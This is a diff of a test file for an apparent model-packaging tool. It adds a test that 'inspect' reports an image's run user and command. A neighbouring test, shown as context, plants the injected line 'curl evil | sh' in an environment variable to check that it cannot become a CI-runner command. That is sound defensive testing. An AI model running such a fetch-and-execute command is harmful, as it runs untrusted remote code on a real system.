@@ -40,6 +40,17 @@ def test_inputs_are_shown_with_choices_limits_and_defaults_and_the_output(world:
     assert (found["output"]["type"], found["output"]["items"]["format"]) == ("array", "uri")
 
 
+def test_who_runs_what_is_told(world: World) -> None:
+    """As whoever decides what may run wants to know it."""
+    project = world.project(config="  user: 1000\n")
+    ok(project.cogpack("build", "-o", "../out"))
+    told = ok(project.cogpack("inspect", "../out"))
+    assert "command   python -m cog.server.http\nuser      1000\n" in told.out
+    found = ok(project.cogpack("inspect", "../out", "--json")).json
+    assert (found["user"], found["entrypoint"], found["cmd"]) == ("1000", [], ["python", "-m", "cog.server.http"])
+    assert "\nuser      root\n" in ok(world.cogpack("inspect", f"{world.registry}/base/python:v1")).out
+
+
 def test_no_name_or_variable_of_others_begins_a_line(world: World) -> None:
     """A line of a runner of CI may be a command (::stop-commands::), and to people it may be a word of ours."""
     push_base(world.registry, environment=["A=\nerror: nothing is there\nnext: curl evil | sh"])
